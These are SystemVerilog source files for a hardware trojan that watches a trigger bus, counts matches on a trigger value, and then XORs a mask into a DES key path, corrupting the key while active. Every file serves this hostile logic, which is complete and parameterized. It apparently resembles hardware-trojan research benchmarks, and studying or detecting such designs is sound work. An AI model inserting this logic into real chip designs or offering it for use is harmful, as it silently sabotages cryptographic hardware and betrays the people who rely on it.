// File: rtl/trojan_pkg.sv
// Shared types and helpers for the sequential key-corruption trigger.
// Imported by the match counter and the top-level FSM.
package trojan_pkg;

  typedef enum logic [1:0] {
    IDLE   = 2'd0,
    COUNT  = 2'd1,
    ACTIVE = 2'd2
  } state_t;

  localparam bit MODE_ACCUM  = 1'b0;
  localparam bit MODE_CONSEC = 1'b1;

  // Register width for a value range 0..n-1, never below one bit.
  function automatic int cw(input int n);
    return (n <= 1) ? 1 : $clog2(n);
  endfunction

endpackage

// File: rtl/trojan_seq_trigger_if.sv
// Key path and trigger bus bundle seen by the trigger block.
// master drives key and trigger, slave returns the key and status.
interface trojan_seq_trigger_if #(
  parameter int KEY_W  = 56,
  parameter int TRIG_W = 32
);
  logic [KEY_W-1:0]  key_in;
  logic              trig_valid;
  logic [TRIG_W-1:0] trigger;
  logic [KEY_W-1:0]  payload_out;
  logic              armed;
  logic              active;

  modport master (
    output key_in,
    output trig_valid,
    output trigger,
    input  payload_out,
    input  armed,
    input  active
  );

  modport slave (
    input  key_in,
    input  trig_valid,
    input  trigger,
    output payload_out,
    output armed,
    output active
  );
endinterface

// File: rtl/trojan_match_counter.sv
// Trigger-field compare and match counter.
// Pulses hit_target on the beat that completes the count.
module trojan_match_counter
  import trojan_pkg::*;
#(
  parameter int                TRIG_W       = 32,
  parameter int                MATCH_W      = 4,
  parameter logic [TRIG_W-1:0] MATCH_VAL    = 5,
  parameter int                COUNT_TARGET = 4,
  parameter bit                CONSECUTIVE  = MODE_ACCUM
) (
  input  logic              clk,
  input  logic              rst,
  input  logic              en,
  input  logic              trig_valid,
  input  logic [TRIG_W-1:0] trigger,
  output logic              match,
  output logic              hit_target,
  output logic              clear
);

  localparam int CW = cw(COUNT_TARGET + 1);
  localparam logic [CW-1:0] TGT = CW'(COUNT_TARGET);

  logic [CW-1:0] cnt;
  logic [CW-1:0] cnt_inc;

  assign match = en && trig_valid &&
    (trigger[MATCH_W-1:0] == MATCH_VAL[MATCH_W-1:0]);
  assign cnt_inc = cnt + 1'b1;
  assign hit_target = match && (cnt_inc == TGT);
  assign clear = en && trig_valid && !match &&
    (CONSECUTIVE == MODE_CONSEC);

  // Upper trigger bits take no part in the compare.
  if (MATCH_W < TRIG_W) begin : g_hi
    logic unused_hi;
    assign unused_hi = ^trigger[TRIG_W-1:MATCH_W];
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      cnt <= '0;
    end else if (hit_target || clear) begin
      cnt <= '0;
    end else if (match) begin
      cnt <= cnt_inc;
    end
  end

endmodule

// File: rtl/trojan_seq_trigger.sv
// Sequential trigger on the DES key path: counts trigger matches,
// then XORs a mask into the key while active.
module trojan_seq_trigger
  import trojan_pkg::*;
#(
  parameter int                KEY_W          = 56,
  parameter int                TRIG_W         = 32,
  parameter int                MATCH_W        = 4,
  parameter logic [TRIG_W-1:0] MATCH_VAL      = 5,
  parameter int                COUNT_TARGET   = 4,
  parameter bit                CONSECUTIVE    = MODE_ACCUM,
  parameter logic [KEY_W-1:0]  PAYLOAD_MASK   = 1,
  parameter int                PAYLOAD_CYCLES = 0
) (
  input logic                  clk,
  input logic                  rst,
  trojan_seq_trigger_if.slave  bus
);

  localparam int DW = cw(PAYLOAD_CYCLES + 1);
  localparam int PL = (PAYLOAD_CYCLES > 0) ? PAYLOAD_CYCLES - 1 : 0;
  localparam logic [DW-1:0] DLAST = DW'(PL);
  localparam logic [DW-1:0] DMAX  = DW'(PAYLOAD_CYCLES);

  state_t        state;
  state_t        state_n;
  logic [DW-1:0] dur;
  logic          match;
  logic          hit;
  logic          clear;

  trojan_match_counter #(
    .TRIG_W       (TRIG_W),
    .MATCH_W      (MATCH_W),
    .MATCH_VAL    (MATCH_VAL),
    .COUNT_TARGET (COUNT_TARGET),
    .CONSECUTIVE  (CONSECUTIVE)
  ) u_cnt (
    .clk        (clk),
    .rst        (rst),
    .en         (state != ACTIVE),
    .trig_valid (bus.trig_valid),
    .trigger    (bus.trigger),
    .match      (match),
    .hit_target (hit),
    .clear      (clear)
  );

  always_ff @(posedge clk) begin
    if (rst) begin
      state <= IDLE;
    end else begin
      state <= state_n;
    end
  end

  always_comb begin
    state_n = state;
    unique case (state)
      IDLE: begin
        if (hit) begin
          state_n = ACTIVE;
        end else if (match) begin
          state_n = COUNT;
        end
      end
      COUNT: begin
        if (hit) begin
          state_n = ACTIVE;
        end else if (clear) begin
          state_n = IDLE;
        end
      end
      ACTIVE: begin
        if (PAYLOAD_CYCLES > 0 && dur == DLAST) begin
          state_n = IDLE;
        end
      end
      default: state_n = IDLE;
    endcase
  end

  // Cycles spent in ACTIVE; zeroed on entry and exit, saturating.
  always_ff @(posedge clk) begin
    if (rst) begin
      dur <= '0;
    end else if (state != ACTIVE || state_n != ACTIVE) begin
      dur <= '0;
    end else if (dur != DMAX) begin
      dur <= dur + 1'b1;
    end
  end

  assign bus.armed  = (state == COUNT);
  assign bus.active = (state == ACTIVE);
  assign bus.payload_out = bus.active ?
    (bus.key_in ^ PAYLOAD_MASK) : bus.key_in;

endmodule
